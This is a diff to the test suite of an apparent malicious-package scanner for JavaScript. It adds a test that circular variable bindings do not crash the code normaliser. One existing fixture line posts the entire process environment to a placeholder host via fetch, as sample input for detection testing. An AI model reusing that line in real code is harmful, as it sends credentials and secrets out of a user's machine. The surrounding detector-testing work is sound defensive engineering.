@@ -82,3 +82,20 @@ def test_chain_analysis_is_bounded_by_nodes() -> None:
     src = ("var a = 1;\n" * 60_000 + "fetch('https://x.invalid', {body: process.env});\n").encode()
     assert len(src) > 128 * 1024
     assert find_chains(src) == []  # too large: not followed (the rules still read the file)
+
+
+def test_bindings_that_lead_back_to_themselves_are_no_constant_and_no_crash() -> None:
+    """Found by a first-day user in @babel/traverse: a name bound to an element of a name
+    bound to a decoder-like call of the first (``visitors = visitor[0]; visitor =
+    explode(visitors[0])``) sent the normaliser round the circle until Python's stack ran out."""
+    two = (b'function explode(v) { const parts = v.split("|"); throw new Error(`${"x"}`); }\n'
+           b"const visitors = visitor[0];\nconst visitor = explode(visitors[0]);\n")
+    ring = ("function d(s) { return s.split('').reverse().join(''); }\n"
+            + "".join(f"const v{i} = d(v{(i + 1) % 50}[0]);\n" for i in range(50))).encode()
+    for src, line in ((two, b"const visitor = explode(visitors[0]);"),
+                      (ring, b"const v49 = d(v0[0]);")):
+        out = N.normalize(src)
+        assert line in out.text  # nothing constant to fold: the circle is left as written
+        assert not out.limits
+        found = ENGINE.scan_file(PackageFile("index.js", src))
+        assert "CW-NORMALIZE-LIMIT" not in {f.rule for f in found}
